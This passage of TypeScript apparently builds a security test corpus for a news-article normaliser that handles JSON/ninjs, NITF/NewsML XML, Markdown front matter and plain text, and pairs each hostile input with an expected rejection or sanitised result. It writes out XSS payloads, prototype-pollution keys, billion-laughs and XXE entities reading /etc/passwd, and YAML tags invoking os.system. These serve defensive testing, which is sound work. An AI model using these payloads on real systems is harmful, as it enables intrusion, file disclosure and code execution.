    'json-deep-object',
    '10,000 nested objects inside an article',
    `{"headline": "${HEADLINE}", "body": "${PARAGRAPHS[0]}", "x": ${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}`,
    rejected('TOO_DEEP'),
  );
  json(
    'json-proto',
    '__proto__, constructor and prototype keys, at the top and nested',
    `{"__proto__": {"polluted": "yes", "headline": "Injected"}, "constructor": {"prototype": {"polluted": "yes"}}, "prototype": {"polluted": "yes"}, "headline": "${HEADLINE}", "body": ${JSON.stringify(STORY)}, "tags": [{"__proto__": {"polluted": "yes"}, "name": "budget"}]}`,
    story({ documentExcludes: ['polluted', 'Injected'] }),
  );
  json(
    'json-proto-only',
    'the article fields only under __proto__ (never read as fields)',
    `{"__proto__": {"headline": "${HEADLINE}", "body": ${JSON.stringify(STORY)}}}`,
    rejected('NO_HEADLINE'),
  );
  json(
    'json-duplicate-keys',
    'duplicate keys: the last one counts, as in JSON.parse',
    `{"headline": "Decoy headline", "body": ${JSON.stringify(STORY)}, "headline": "${HEADLINE}"}`,
    story({ documentExcludes: ['Decoy'] }),
  );
  json(
    'json-wide',
    '50,000 unknown keys',
    `{"headline": "${HEADLINE}", "body": ${JSON.stringify(STORY)}, ${Array.from({ length: 50_000 }, (_, i) => `"k${i}": ${i}`).join(', ')}}`,
    story(),
  );
  json(
    'json-html-body',
    'a CMS export whose HTML body carries scripts and handlers',
    JSON.stringify({
      title: HEADLINE,
      content: {
        rendered: page(
          '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>',
        ),
      },
    }),
    story({ markupExcludes: SCRIPTY }),
  );
  json(
    'json-controls',
    'escaped NUL, ESC (terminal colours) and lone surrogates in field values',
    ninjs({
      headlines: [{ value: `${HEADLINE}\u0000\u001b[31m\ud800` }],
      bodies: [{ contentType: 'text/plain', value: `${STORY}\u0000\u001b[2J\udfff` }],
    }),
    // What is left of an escape sequence once its ESC is gone ("[31m") is text; the controls themselves go.
    {
      accepted: {
        bodyIncludes: [FIRST_WORDS],
        documentExcludes: ['\\u0000', '\\u001b', '\\ud800', '\\udfff'],
      },
    },
  );

  // ninjs with invalid fields: an optional one is dropped and recorded, the story goes through;
  // an essential one (headlines of the wrong shape) still refuses it.
  const invalidNinjs = (
    id: string,
    description: string,
    fields: Record<string, unknown>,
    code: RejectionCode | undefined = undefined,
  ) =>
    add('ninjs', {
      id,
      file: `${id}.json`,
      description,
      bytes: utf8(ninjs(fields)),
      expect: code ? rejected(code) : story({ dropped: Object.keys(fields) }),
    });
  invalidNinjs('ninjs-uri-space', 'uri with spaces', { uri: 'not a uri' });
  invalidNinjs('ninjs-uri-relative', 'uri without a scheme', { uri: '/articles/1' });
  invalidNinjs('ninjs-uri-object', 'uri as an object', { uri: { href: 'urn:x' } });
  invalidNinjs('ninjs-urgency-zero', 'urgency 0', { urgency: 0 });
  invalidNinjs('ninjs-urgency-ten', 'urgency 10', { urgency: 10 });
  invalidNinjs('ninjs-urgency-string', 'urgency as a string', { urgency: '3' });
  invalidNinjs('ninjs-urgency-fraction', 'urgency 2.5', { urgency: 2.5 });
  add('ninjs', {
    id: 'ninjs-urgency-huge',
    file: 'ninjs-urgency-huge.json',
    description: 'urgency 1e400 (Infinity once parsed)',
    bytes: utf8(ninjs({}).replace('{', '{"urgency": 1e400, ')),
    expect: story({ dropped: ['urgency'] }),
  });
  // An unreadable pubStatus could be a withdrawal: the story is indexed as withheld, never published,
  // so it stays out of the batch through the local runtime (which expects delivery).
  for (const [id, description, pubStatus] of [
    ['ninjs-pubstatus', 'pubStatus "published": dropped, withheld', 'published'],
    ['ninjs-pubstatus-number', 'pubStatus 1: dropped, withheld', 1],
  ] as const) {
    add('ninjs', {
      id,
      file: `${id}.json`,
      description,
      bytes: utf8(ninjs({ pubStatus })),
      expect: story({ dropped: ['pubStatus'], pubStatus: 'withheld' }),
      normaliserOnly: true,
    });
  }
  invalidNinjs('ninjs-language', 'language "not a language!"', { language: 'not a language!' });
  invalidNinjs('ninjs-date', 'versionCreated "yesterday"', { versionCreated: 'yesterday' });
  invalidNinjs('ninjs-date-no-zone', 'firstCreated without a time zone', {
    firstCreated: '2024-01-01T10:00:00',
  });
  invalidNinjs(
    'ninjs-headlines-object',
    'headlines as an object',
    { headlines: { value: HEADLINE } },
    'INVALID_FIELD',
  );
  invalidNinjs('ninjs-type', 'type "picture"', { type: 'picture' }, 'NO_ARTICLE');
  invalidNinjs(
    'ninjs-xml-body-only',
    'only an application/xml body',
    { bodies: [{ contentType: 'application/xml', value: '<p>x</p>' }] },
    'NO_BODY',
  );
  add('ninjs', {
    id: 'ninjs-js-uri',
    file: 'ninjs-js-uri.json',
    description: 'uri "javascript:alert(1)": a URI, but not one partners may use as the id',
    bytes: utf8(ninjs({ uri: 'javascript:alert(1)' })),
    expect: story(),
  });
  add('ninjs', {
    id: 'ninjs-html-xss',
    file: 'ninjs-html.json',
    description: 'an HTML body with scripts, handlers and iframes',
    bytes: utf8(
      ninjs({
        bodies: [
          {
            contentType: 'text/html',
            value: `<p>${PARAGRAPHS[0]}</p><script>alert(1)</script><iframe src=//evil.example></iframe><p onclick=alert(2)>${PARAGRAPHS[1]}</p><a href="javascript:alert(3)">x</a>`,
          },
        ],
      }),
    ),
    expect: story({ markupExcludes: SCRIPTY }),
  });

  // XML
  const xml = (id: string, description: string, text: string, expect: Expectation) =>
    add('xml', { id, file: `${id}.xml`, description, bytes: utf8(text), expect });
  const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join(
    '',
  );
  xml(
    'xml-billion-laughs',
    'entity expansion: 10^9 "lol"s',
    nitf('<p>&lol9;</p>', `<!DOCTYPE nitf [<!ENTITY lol0 "lol">${lol}]>`),
    rejected('UNSAFE'),
  );
  xml(
    'xml-quadratic',
    'quadratic blow-up: one 3 KB entity used 100,000 times',
    nitf(`<p>${'&big;'.repeat(100_000)}</p>`, `<!DOCTYPE nitf [<!ENTITY big "${'x'.repeat(3_000)}">]>`),
    rejected('UNSAFE'),
  );
  add('xml', {
    id: 'xml-long-prolog',
    file: 'xml-long-prolog.xml',
    description: 'a legitimate NITF document after a 5 KB licence comment',
    bytes: utf8(nitf(htmlParagraphs(), `\n<!-- ${'Licence and copyright notice. '.repeat(180)} -->`)),
    expect: story({ format: 'nitf' }),
  });
  xml(
    'xml-xxe-file',
    'an external entity reading /etc/passwd',
    nitf('<p>&xxe;</p>', '<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    rejected('UNSAFE'),
  );
  xml(
    'xml-xxe-http',
    'an external entity fetching a URL',
    nitf('<p>&xxe;</p>', '<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/x">]>'),
    rejected('UNSAFE'),
  );
  xml(
    'xml-parameter-entity',
    'a parameter entity loading an external DTD',
    nitf('<p>x</p>', '<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote;]>'),
    rejected('UNSAFE'),
  );
  xml(
    'xml-external-dtd',
    'an external DTD that is not the NITF one',
    nitf(`<p>${PARAGRAPHS[0]}</p>`, '<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/evil.dtd">'),
    rejected('UNSAFE'),
  );
  xml(
    'xml-nitf-dtd',
    'the NITF DTD named, not loaded (real feeds do this)',
    nitf(htmlParagraphs(), '<!DOCTYPE nitf SYSTEM "nitf-3-2.dtd">'),
    story({ format: 'nitf' }),
  );
  xml(
    'xml-nitf-dtd-subset',
    'the NITF DTD name with an internal subset',
    nitf(`<p>${PARAGRAPHS[0]}</p>`, '<!DOCTYPE nitf SYSTEM "nitf-3-2.dtd" [<!ENTITY x "y">]>'),
    rejected('UNSAFE'),
  );
  xml(
    'xml-xinclude',
    'XInclude of /etc/passwd (must not be processed)',
    nitf(
      `${htmlParagraphs()}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
    ),
    story({ documentExcludes: ['root:', '/etc/passwd'] }),
  );
  xml(
    'xml-processing-instruction',
    'processing instructions and a stylesheet',
    nitf(`${htmlParagraphs()}<?php system('id'); ?>`).replace(
      '?>\n',
      '?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1:1/x.xsl"?>\n',
    ),
    story({ documentExcludes: ['system(', 'xsl'] }),
  );
  xml('xml-mismatched', 'mismatched tags', nitf(`<p>${PARAGRAPHS[0]}</b></p>`), rejected('MALFORMED'));
  xml(
    'xml-unclosed',
    'the root never closed',
    nitf(htmlParagraphs()).replace('</nitf>', ''),
    rejected('MALFORMED'),
  );
  xml('xml-two-roots', 'two root elements', `${nitf(htmlParagraphs())}<nitf/>`, rejected('MALFORMED'));
  xml(
    'xml-html-entity',
    'an HTML entity XML does not define (&nbsp;)',
    nitf(`<p>${PARAGRAPHS[0]}&nbsp;</p>`),
    rejected('MALFORMED'),
  );
  xml(
    'xml-nul-reference',
    'a character reference to NUL (&#0;)',
    nitf(`<p>${PARAGRAPHS[0]}&#0;</p>`),
    rejected('MALFORMED'),
  );
  xml(
    'xml-deep',
    '1,000 nested elements',
    nitf(`${'<block>'.repeat(1000)}<p>${PARAGRAPHS[0]}</p>${'</block>'.repeat(1000)}`),
    rejected('TOO_DEEP'),
  );
  xml(
    'xml-unknown-root',
    'well-formed XML of another kind (RSS)',
    '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title></channel></rss>',
    rejected('UNSUPPORTED_FORMAT'),
  );
  add('xml', {
    id: 'xml-latin1',
    file: 'xml-latin1.xml',
    description: 'NITF declared ISO-8859-1, with accents as Latin-1 bytes',
    bytes: new Uint8Array(
      iconv.encode(
        nitf(`<p>${PARAGRAPHS[0]} Café crème à la française.</p><p>${PARAGRAPHS[1]}</p>`).replace(
          'UTF-8',
          'ISO-8859-1',
        ),
        'latin1',
      ),
    ),
    expect: story({ bodyIncludes: ['Café crème à la française'], encodingRule: /^declared:ISO-8859-1/ }),
  });
  xml(
    'xml-nitf-xss',
    'NITF with script, handlers, javascript: links and CDATA markup',
    nitf(
      `<p onclick="alert(1)">${PARAGRAPHS[0]}</p><script>alert(2)</script><p><a href="javascript:alert(3)">link</a> <![CDATA[<img src=x onerror=alert(4)>]]></p><p>${PARAGRAPHS[1]}</p><media media-type="image"><media-reference source="javascript:alert(5)"/></media>`,
    ),
    story({ format: 'nitf', markupExcludes: SCRIPTY }),
  );
  xml(
    'newsml-xhtml-xss',
    'NewsML-G2 with inline XHTML carrying scripts, iframes and handlers',
    newsml(
      `<inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>${PARAGRAPHS[0]}</p><script>alert(1)</script><iframe src="https://evil.example/"/><p onmouseover="alert(2)">${PARAGRAPHS[1]}</p><a href="vbscript:alert(3)">x</a><svg onload="alert(4)"/></body></html></inlineXML>`,
    ),
    story({ format: 'newsml', markupExcludes: SCRIPTY }),
  );
  xml(
    'newsml-html-data',
    'NewsML-G2 inlineData declared text/html with scripts',
    newsml(
      `<inlineData contenttype="text/html"><![CDATA[<p>${PARAGRAPHS[0]}</p><script>alert(1)</script><p>${PARAGRAPHS[1]}</p><img src=x onerror=alert(2)>]]></inlineData>`,
    ),
    story({ format: 'newsml', markupExcludes: SCRIPTY }),
  );
  xml(
    'newsml-remote-only',
    'NewsML-G2 whose content is only a remote reference (never fetched)',
    newsml('<remoteContent href="http://127.0.0.1:1/story.txt" contenttype="text/plain"/>'),
    rejected('NO_BODY'),
  );

  // Markdown front matter
  const md = (id: string, description: string, text: string, expect: Expectation) =>
    add('markdown', { id, file: `${id}.md`, description, bytes: utf8(text), expect });
  md(
    'yaml-js-function',
    'a !!js/function tag (js-yaml executes these)',
    markdown(`title: !!js/function "function () { return process.exit(1) }"`),
    rejected('UNSAFE'),
  );
  md(
    'yaml-python-object',
    'a !!python/object/apply tag',
    markdown(`title: ${HEADLINE}\nx: !!python/object/apply:os.system ["id"]`),
    rejected('UNSAFE'),
  );
  md(
    'yaml-ruby-object',
    'a local !ruby/object tag',
    markdown(`title: ${HEADLINE}\nx: !ruby/object:Gem::Installer\n  i: x`),
    rejected('UNSAFE'),
  );
  md(
    'yaml-binary',
    'a !!binary tag',
    markdown(`title: ${HEADLINE}\nx: !!binary aGVsbG8=`),
    rejected('UNSAFE'),
  );
  md(
    'yaml-unclosed',
    'front matter opened and never closed',
    `---\ntitle: ${HEADLINE}\n\n${STORY}\n`,
    rejected('MALFORMED'),
  );
  md(
    'toml-unclosed',
    'TOML front matter never closed',
    `+++\ntitle = "${HEADLINE}"\n\n${STORY}\n`,
    rejected('MALFORMED'),
  );
  md(
    'yaml-alias-bomb',
    'alias expansion ("billion laughs" for YAML)',
    markdown(
      `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\ntitle: ${HEADLINE}`,
    ),
    rejected('UNSAFE'),
  );
  md(
    'yaml-duplicate-keys',
    'the title given twice',
    markdown(`title: Decoy\ntitle: ${HEADLINE}`),
    rejected('MALFORMED'),
  );
  md(
    'yaml-deep',
    'flow collections nested 1,000 deep',
    markdown(`title: ${HEADLINE}\nx: ${'['.repeat(1000)}${']'.repeat(1000)}`),
    rejected('TOO_DEEP'),
  );
  md(
    'toml-proto',
    'TOML with __proto__ and constructor keys',
    `+++\ntitle = "${HEADLINE}"\n[__proto__]\npolluted = "yes"\n[constructor.prototype]\npolluted = "yes"\n+++\n\n${STORY}\n`,
    story({ documentExcludes: ['polluted'] }),
  );
  md(
    'markdown-xss',
    'raw HTML, javascript:/data: links and images, autolinks',
    `# ${HEADLINE}\n\n${PARAGRAPHS[0]}\n\n<script>alert(1)</script>\n\n[click](javascript:alert(2)) [data](data:text/html,<script>alert(3)</script>) ![img](javascript:alert(4)) <javascript:alert(5)> <img src=x onerror=alert(6)> [vb](vbscript:alert(7))\n\n<iframe src="https://evil.example"></iframe>\n\n${PARAGRAPHS[1]}\n`,
    story({ format: 'markdown', markupExcludes: SCRIPTY }),
  );

  // Plain text
  add('text', {
    id: 'ansi-escapes',
    file: 'ansi.txt',
    description: 'terminal escape sequences (colours, clear screen, title)',
    bytes: utf8(`${HEADLINE}\u001b[31m\n\n${PARAGRAPHS[0]}\u001b[2J\u001b]0;pwned\u0007\n\n${PARAGRAPHS[1]}`),
    expect: {
      accepted: {
        bodyIncludes: [FIRST_WORDS],
        bodyExcludes: ['\u001b', '\u0007'],
        documentExcludes: ['\\u001b', '\\u0007'],
      },
    },
  });
  return cases;
}

/** Good articles for the runtime batch, each a different format; `topic` says which partner wants it. */
export interface GoodArticle {
  readonly file: string;
  readonly bytes: Uint8Array;
  readonly topic: 'politics' | 'sport';
}

const SPORT = [
  'The home side won the continental championship on Saturday, beating the visitors 5-4 on penalties after a 2-2 draw in front of 61,000 football fans.',
  'The coach said the team had deserved the championship after a difficult season, and the players celebrated with the trophy.',
].join('\n\n');

/** The `index`th good article (six formats in turn); `id` makes its own identifiers unique. */
export function goodArticle(index: number, id: string): GoodArticle {
  const articles: readonly (() => GoodArticle)[] = [
    () => ({
      file: 'politics.txt',
      topic: 'politics',
      bytes: utf8(
        `Parliament votes on budget after election campaign\n\n${STORY}\n\nThe government and the opposition parties both claimed the election mandate for their view of the budget.`,
      ),
    }),
    () => ({
      file: 'sport.txt',
      topic: 'sport',
      bytes: utf8(`Home side wins the continental championship final\n\n${SPORT}`),
    }),
    () => ({
      file: 'politics.json',
      topic: 'politics',
      bytes: utf8(
        ninjs({
          uri: `urn:example:good-${id}`,
          subjects: [{ uri: 'http://cv.iptc.org/newscodes/mediatopic/11000000', name: 'politics' }],
        }),
      ),
    }),
    () => ({
      file: 'sport.md',
      topic: 'sport',
      bytes: utf8(
        `---\ntitle: Championship final goes to extra time\ntags: [medtop:15000000]\nlang: en\n---\n\n${SPORT}\n`,
      ),
    }),
    () => ({
      file: 'politics.html',
      topic: 'politics',
      bytes: utf8(
        page(
          '<p>The election commission said the government would publish the figures before parliament votes.</p>',
        ),
      ),
    }),
    () => ({
      file: 'politics.xml',
      topic: 'politics',
      bytes: utf8(
        nitf(`${htmlParagraphs()}<p>The government said the election promises were kept.</p>`).replace(
          '<head>',
          '<head><tobject><tobject.subject tobject.subject.refnum="11000000"/></tobject>',
        ),
      ),
    }),
  ];
  return (articles[index % articles.length] as () => GoodArticle)();
}
